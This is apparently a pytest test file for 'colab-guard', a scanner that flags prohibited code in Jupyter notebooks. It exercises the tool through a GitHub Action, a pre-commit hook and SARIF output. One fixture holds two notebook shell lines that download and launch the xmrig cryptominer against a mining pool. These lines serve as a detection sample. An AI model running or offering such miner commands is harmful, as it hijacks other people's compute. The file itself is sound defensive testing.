"""The GitHub Action (action.yml) and the pre-commit hook (.pre-commit-hooks.yaml) at the
repository root: their files are read, and the command lines they run are run here, the
way the runner and pre-commit would, on a folder with a prohibited and a clean notebook."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
SCHEMA = ROOT / "tests" / "schemas" / "sarif-schema-2.1.0.json"
DOCS = ROOT / "docs" / "ci.md"
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")

PROHIBITED = (
    "!wget -q https://example.org/xmrig.tar.gz\n"
    "!nohup ./xmrig -o stratum+tcp://pool.example:3333 &\n"
)
CLEAN = "import numpy as np\nprint(np.arange(3).sum())\n"


def notebook(source: str) -> str:
    cell = {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": source.splitlines(keepends=True),
    }
    data = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(data, indent=1) + "\n"


@pytest.fixture(scope="module")
def action() -> dict[str, Any]:
    data = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


@pytest.fixture(scope="module")
def validator() -> jsonschema.Draft4Validator:
    return jsonschema.Draft4Validator(
        json.loads(SCHEMA.read_text(encoding="utf-8")), format_checker=jsonschema.FormatChecker()
    )


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A checkout with a prohibited and a clean notebook."""
    root = tmp_path / "workspace"
    (root / "notebooks").mkdir(parents=True)
    (root / "notebooks" / "miner.ipynb").write_text(notebook(PROHIBITED), encoding="utf-8")
    (root / "notebooks" / "clean.ipynb").write_text(notebook(CLEAN), encoding="utf-8")
    return root


def bin_path() -> str:
    """PATH with this interpreter's scripts (where `colab-guard` is) first."""
    scripts = Path(sys.executable).parent
    assert (scripts / "colab-guard").exists(), "colab-guard is not installed next to python"
    return f"{scripts}{os.pathsep}{os.environ.get('PATH', '')}"


def step(action: dict[str, Any], step_id: str) -> dict[str, Any]:
    (found,) = [s for s in action["runs"]["steps"] if s.get("id") == step_id]
    return found


def evaluate(text: str, inputs: dict[str, str], github: dict[str, str]) -> str:
    """Substitute the ``${{ inputs.x }}`` and ``${{ github.x }}`` expressions the runner
    would; any other expression is an error here."""

    def one(match: re.Match[str]) -> str:
        scope, _, name = match.group(1).partition(".")
        if scope == "inputs":
            return inputs[name]
        if scope == "github":
            return github[name]
        raise AssertionError(f"unexpected expression {match.group(0)}")

    return EXPRESSION.sub(one, text)


def run_check_step(
    action: dict[str, Any], workspace: Path, tmp_path: Path, **given: str
) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    """Run the action's check step as the runner does: `shell: bash` is
    `bash --noprofile --norc -eo pipefail {0}`, in the workspace, its `env` evaluated,
    GITHUB_OUTPUT a file. Returns the process and the step's outputs."""
    inputs = {name: str(spec.get("default", "")) for name, spec in action["inputs"].items()}
    inputs.update(given)
    check = step(action, "check")
    assert check["shell"] == "bash"
    script = tmp_path / "check-step.sh"
    script.write_text(check["run"], encoding="utf-8")
    output = tmp_path / "github-output"
    output.write_text("", encoding="utf-8")
    github = {"workspace": str(workspace), "action_path": str(ROOT)}
    env = {
        **os.environ,
        "PATH": bin_path(),
        "GITHUB_OUTPUT": str(output),
        "GITHUB_WORKSPACE": str(workspace),
    }
    env.update({k: evaluate(str(v), inputs, github) for k, v in check.get("env", {}).items()})
    proc = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=workspace,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    outputs = dict(
        line.split("=", 1) for line in output.read_text(encoding="utf-8").splitlines() if line
    )
    return proc, outputs


def assert_valid(validator: jsonschema.Draft4Validator, sarif: dict[str, Any]) -> None:
    problems = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(sarif)]
    assert not problems, problems[:10]


# -- action.yml ---------------------------------------------------------------------------------
def test_action_shape(action: dict[str, Any]) -> None:
    assert action["name"] and action["description"]
    assert set(action["inputs"]) >= {"paths", "policy", "python-version", "sarif-file", "upload"}
    for name, spec in action["inputs"].items():
        assert spec.get("description"), name
        assert isinstance(spec.get("default", ""), str), name  # inputs are strings
    assert action["inputs"]["upload"]["default"] == "true"
    assert action["runs"]["using"] == "composite"
    steps = action["runs"]["steps"]
    uses = [s["uses"].split("@")[0] for s in steps if "uses" in s]
    assert uses == ["actions/setup-python", "github/codeql-action/upload-sarif"]
    setup = next(s for s in steps if s.get("uses", "").startswith("actions/setup-python@"))
    assert setup["with"]["python-version"] == "${{ inputs.python-version }}"
    # it installs its own checkout, not a release from an index
    install = next(s for s in steps if "pip install" in s.get("run", ""))
    assert install["env"]["ACTION_PATH"] == "${{ github.action_path }}"
    assert '"$ACTION_PATH"' in install["run"]
    # every run step says its shell (composite actions require it) and takes inputs only
    # through env: no ${{ }} pasted into a script (no script injection)
    for s in steps:
        if "run" in s:
            assert s["shell"] == "bash"
            assert "${{" not in s["run"], s["run"]
    check = step(action, "check")
    assert "colab-guard" in check["run"] and "--format sarif" in check["run"]
    assert "--output" in check["run"]
    upload = steps[-1]
    assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
    assert "inputs.upload == 'true'" in upload["if"] and "always()" in upload["if"]
    assert upload["with"]["sarif_file"] == "${{ steps.check.outputs.sarif-file }}"
    for output in action["outputs"].values():
        assert output["value"].startswith("${{ steps.check.outputs.")


def test_action_check_step_on_a_prohibited_and_a_clean_notebook(
    action: dict[str, Any],
    workspace: Path,
    tmp_path: Path,
    validator: jsonschema.Draft4Validator,
) -> None:
    proc, outputs = run_check_step(action, workspace, tmp_path)  # the defaults: paths "."
    assert proc.returncode == 1, proc.stdout + proc.stderr  # the step fails: findings
    assert outputs["exit-code"] == "1"
    sarif_file = workspace / action["inputs"]["sarif-file"]["default"]
    assert outputs["sarif-file"] == action["inputs"]["sarif-file"]["default"]
    sarif = json.loads(sarif_file.read_text(encoding="utf-8"))
    assert_valid(validator, sarif)
    (run,) = sarif["runs"]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == workspace.as_uri() + "/"
    locations = {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]
    }
    assert locations == {"notebooks/miner.ipynb"}  # relative to the checkout; clean is clean
    assert all(
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uriBaseId"] == "%SRCROOT%"
        for r in run["results"]
    )
    assert {r["level"] for r in run["results"]} >= {"error"}
    miner_lines = (workspace / "notebooks" / "miner.ipynb").read_text().split("\n")
    for result in run["results"]:
        line = result["locations"][0]["physicalLocation"]["region"]["startLine"]
        assert "xmrig" in miner_lines[line - 1]  # the notebook file's own line


def test_action_check_step_with_inputs(
    action: dict[str, Any],
    workspace: Path,
    tmp_path: Path,
    validator: jsonschema.Draft4Validator,
) -> None:
    # only the clean notebook, a policy of its own, a nested report path, a FAQ URL
    policy = tmp_path / "policy" / "my policy.yaml"
    policy.parent.mkdir()
    policy.write_text(
        "version: 1\nname: tiny\ncategories:\n  - id: numbers\n    title: Numbers\n"
        "    description: Numbers are noted.\n    action: log\n    severity: low\n"
        "rules:\n  - id: numpy-import\n    category: numbers\n    message: Imports numpy.\n"
        "    match:\n      import: numpy\n"
        "    examples:\n      match: ['import numpy']\n      no_match: ['import os']\n",
        encoding="utf-8",
    )
    proc, outputs = run_check_step(
        action,
        workspace,
        tmp_path,
        paths="notebooks/clean.ipynb\n  notebooks/clean.ipynb ",
        policy=str(policy),
        **{"sarif-file": "reports/guard.sarif", "faq-url": "https://hub.example.edu/faq"},
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr  # a log finding passes
    assert outputs == {"exit-code": "0", "sarif-file": "reports/guard.sarif"}
    sarif = json.loads((workspace / "reports" / "guard.sarif").read_text(encoding="utf-8"))
    assert_valid(validator, sarif)
    run = sarif["runs"][0]
    assert [r["ruleId"] for r in run["results"]] == ["numpy-import", "numpy-import"]
    (rule,) = run["tool"]["driver"]["rules"]
    assert rule["helpUri"] == "https://hub.example.edu/faq#numbers"


def test_action_check_step_reports_errors(
    action: dict[str, Any], workspace: Path, tmp_path: Path
) -> None:
    proc, outputs = run_check_step(action, workspace, tmp_path, paths="notebooks missing.ipynb")
    assert proc.returncode == 1  # the prohibited notebook still wins over the missing file
    proc, outputs = run_check_step(
        action, workspace, tmp_path, paths="notebooks/clean.ipynb missing.ipynb"
    )
    assert proc.returncode == 2 and outputs["exit-code"] == "2"
    sarif = json.loads((workspace / "colab-guard.sarif").read_text(encoding="utf-8"))
    assert sarif["runs"][0]["invocations"][0]["executionSuccessful"] is False


# -- .pre-commit-hooks.yaml -----------------------------------------------------------------------
def test_pre_commit_hook(workspace: Path, tmp_path: Path) -> None:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    (hook,) = [h for h in hooks if h["id"] == "colab-guard"]
    assert {"id", "name", "entry", "language"} <= set(hook)
    assert hook["language"] == "python"
    assert shlex.split(hook["entry"])[:2] == ["colab-guard", "check"]
    assert set(hook["types_or"]) == {"jupyter", "python", "shell"}
    files = re.compile(hook["files"])
    assert all(files.search(n) for n in ("a.ipynb", "b.py", "c.sh", "d/e.bash"))
    assert not files.search("f.txt") and not files.search("g.json")
    # pre-commit runs the entry, the hook's args, then the file names
    command = [*shlex.split(hook["entry"]), *hook.get("args", [])]
    env = {**os.environ, "PATH": bin_path()}
    names = ["notebooks/miner.ipynb", "notebooks/clean.ipynb"]
    bad = subprocess.run(
        [*command, *names], cwd=workspace, env=env, capture_output=True, text=True, timeout=300
    )
    assert bad.returncode == 1 and "notebooks/miner.ipynb" in bad.stdout
    good = subprocess.run(
        [*command, names[1]], cwd=workspace, env=env, capture_output=True, text=True, timeout=300
    )
    assert good.returncode == 0, good.stdout + good.stderr


# -- docs/ci.md ------------------------------------------------------------------------------------
def test_documented_workflow_uses_the_action(action: dict[str, Any]) -> None:
    text = DOCS.read_text(encoding="utf-8")
    blocks = re.findall(r"```yaml\n(.*?)```", text, re.S)
    workflows = [yaml.safe_load(b) for b in blocks if "jobs:" in b]
    assert workflows, "docs/ci.md has no example workflow"
    workflow = workflows[0]
    (job,) = workflow["jobs"].values()
    assert job["permissions"]["security-events"] == "write"
    steps = job["steps"]
    assert steps[0]["uses"].startswith("actions/checkout@")
    guard = next(s for s in steps if "colab-guard" in s.get("uses", ""))
    assert set(guard.get("with", {})) <= set(action["inputs"])
    hooks = [yaml.safe_load(b) for b in blocks if "repos:" in b]
    assert hooks and hooks[0]["repos"][0]["hooks"][0]["id"] == "colab-guard"


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is needed")
def test_bash_is_what_the_runner_uses() -> None:
    # the step script relies on bash arrays and `read -a`; the runner's bash is 5.x
    out = subprocess.run(
        ["bash", "-c", "echo ${BASH_VERSINFO[0]}"], capture_output=True, text=True, check=True
    )
    assert int(out.stdout) >= 4
